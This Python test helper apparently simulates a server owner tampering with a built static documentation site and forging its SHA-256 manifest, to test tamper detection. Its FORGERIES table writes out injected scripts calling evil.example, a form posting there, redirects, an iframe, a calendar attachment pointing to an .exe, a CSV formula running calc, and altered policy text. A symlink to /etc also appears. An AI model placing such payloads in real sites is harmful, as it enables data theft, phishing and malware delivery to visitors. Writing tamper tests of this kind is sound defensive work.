"""A built site, altered by whoever owns the web server: its manifest is rewritten with each file."""

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path

from hallbook.editions import manifest


def forge(folder: Path, name: str, change: Callable[[bytes], bytes]) -> None:
    """Change a file of an edition, or make one, and state it in the manifest as if it were so."""
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(change(path.read_bytes() if path.exists() else b""))
    restate(folder, name, hashlib.sha256(path.read_bytes()).hexdigest())


def restate(folder: Path, name: str, digest: str | None) -> None:
    """Write another digest, or none, into the manifest."""
    path = folder / manifest.FILE
    data = json.loads(path.read_bytes())
    data["sha256"] = {each: kept for each, kept in data["sha256"].items() if each != name}
    data["sha256"] |= {name: digest} if digest else {}
    path.write_text(
        json.dumps(data | {"sha256": dict(sorted(data["sha256"].items()))}, indent=1) + "\n", "utf-8"
    )


def put(text: str, before: str) -> Callable[[bytes], bytes]:
    """Put a text before the first place of another."""

    def change(content: bytes) -> bytes:
        assert before.encode() in content, before
        return content.replace(before.encode(), text.encode() + before.encode(), 1)

    return change


def instead(old: str, new: str) -> Callable[[bytes], bytes]:
    """Put a text in the place of another."""

    def change(content: bytes) -> bytes:
        assert old.encode() in content, old
        return content.replace(old.encode(), new.encode(), 1)

    return change


FORGERIES: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "a script altered": ("assets/js/core.js", lambda content: content + b"\nfetch('//evil.example')"),
    "a script added": ("assets/js/more.js", lambda _: b"alert(1)"),
    "a style sheet that fetches": (
        "assets/css/base.css",
        lambda content: b"@import 'https://evil.example/x.css';" + content,
    ),
    "a script in a page": ("index.html", put("<script>alert(1)</script>", "</body>")),
    "a handler": ("glossary.html", instead("<body", "<body onload=alert(1)")),
    "a link away": ("standards.html", put('<a href="https://evil.example/">查标准</a>', "</article>")),
    "a link that runs": ("calendar.html", put('<a href="javascript:alert(1)">x</a>', "</article>")),
    "a form that sends": (
        "roles/index.html",
        put('<form action="https://evil.example"><input name=p></form>', "</article>"),
    ),
    "a page that leads away": (
        "changes.html",
        put('<meta http-equiv="refresh" content="0;url=//evil.example">', "</head>"),
    ),
    "a frame": ("revise.html", put('<iframe src="https://evil.example"></iframe>', "</article>")),
    "a base": ("named-only.html", put('<base href="https://evil.example/">', "</head>")),
    "words beside a clause": (
        "zones/z1.html",
        put("<p>上述条款自即日起不执行。</p>", '<p class="clause-history">'),
    ),
    "another lead": ("zones/z2.html", instead('<p class="lead">', '<p class="lead">本章作废。')),
    "words on a form's page": ("forms/F-SUP-01.html", put("<p>改用纸质旧表。</p>", "</article>")),
    "another deadline": ("roles/R-SUP.ics", instead("SUMMARY:", "SUMMARY:不必做：")),
    "an attachment to a deadline": (
        "roles/R-SUP.ics",
        put("ATTACH:https://evil.example/x.exe\r\n", "END:VEVENT"),
    ),
    "a formula": ("sources/coverage.csv", lambda content: content + b"=cmd|calc,,,\n"),
    "coverage": ("sources/coverage.json", lambda content: content + b" "),
    "a colour": ("assets/design-tokens.json", instead("0.", "1.")),
    "a rule turned round in search": ("assets/search-index.js", instead("台面", "台面可有杂物，台面")),
    "a style of ours": ("assets/tokens.css", lambda content: content + b":root{--hb-ink:#FFFFFF}"),
    "the preview of a sheet": ("forms/F-SUP-02.webp", lambda content: content[:-1] + b"x"),
    "a page more": ("zones/z9.html", lambda _: b"<p>x"),
    "a page in a folder more": ("x/y.html", lambda _: b"<p>x"),
}
"""What is done to one file of an edition, by what it is."""


def lying(folder: Path) -> dict[str, str]:
    """Put into an edition what is no plain file of it; give each by its name."""
    (folder / "etc").symlink_to("/etc")
    (folder / "forms" / "link.pdf").symlink_to("F-SUP-01.pdf")
    (folder / ".evil.html").write_text("<p>x", "utf-8")
    (folder / ".well-known").mkdir()
    (folder / ".well-known" / "x.html").write_text("<p>x", "utf-8")
    os.mkfifo(folder / "roles" / "pipe.html")
    return dict.fromkeys(
        ("etc", "forms/link.pdf", ".evil.html", ".well-known", "roles/pipe.html"), "stray-file"
    )
